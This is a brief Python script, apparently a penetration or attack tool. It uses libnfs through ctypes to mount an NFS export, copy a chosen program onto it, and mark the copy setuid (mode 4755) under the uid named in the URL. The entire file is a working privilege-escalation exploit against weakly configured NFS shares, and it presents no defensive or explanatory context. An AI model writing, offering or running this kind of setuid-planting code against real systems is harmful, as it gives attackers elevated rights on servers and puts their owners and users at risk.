# nfs_plant.py FILE URL PATH: a copy of FILE at PATH of the export that URL names, setuid, owned by the
# uid of the URL. The NFS tools of Debian have no chmod, so their library is called.
import ctypes
import os
import sys


class Url(ctypes.Structure):
    _fields_ = [("server", ctypes.c_char_p), ("path", ctypes.c_char_p), ("file", ctypes.c_char_p)]


nfs = ctypes.CDLL("libnfs.so.13")
nfs.nfs_init_context.restype = nfs.nfs_get_error.restype = ctypes.c_void_p
nfs.nfs_parse_url_dir.restype = ctypes.POINTER(Url)
context, handle = ctypes.c_void_p(nfs.nfs_init_context()), ctypes.c_void_p()


def must(result):
    if result < 0:
        sys.exit(ctypes.string_at(nfs.nfs_get_error(context)).decode())


program, url, path = sys.argv[1], sys.argv[2].encode(), sys.argv[3].encode()
export = nfs.nfs_parse_url_dir(context, url).contents
must(nfs.nfs_mount(context, export.server, export.path))
must(nfs.nfs_open2(context, path, os.O_CREAT | os.O_WRONLY, 0o700, ctypes.byref(handle)))
with open(program, "rb") as source:
    while piece := source.read(2048):  # more does not fit into its message
        must(nfs.nfs_write(context, handle, ctypes.c_uint64(len(piece)), piece))
must(nfs.nfs_close(context, handle))
must(nfs.nfs_chmod(context, path, 0o4755))
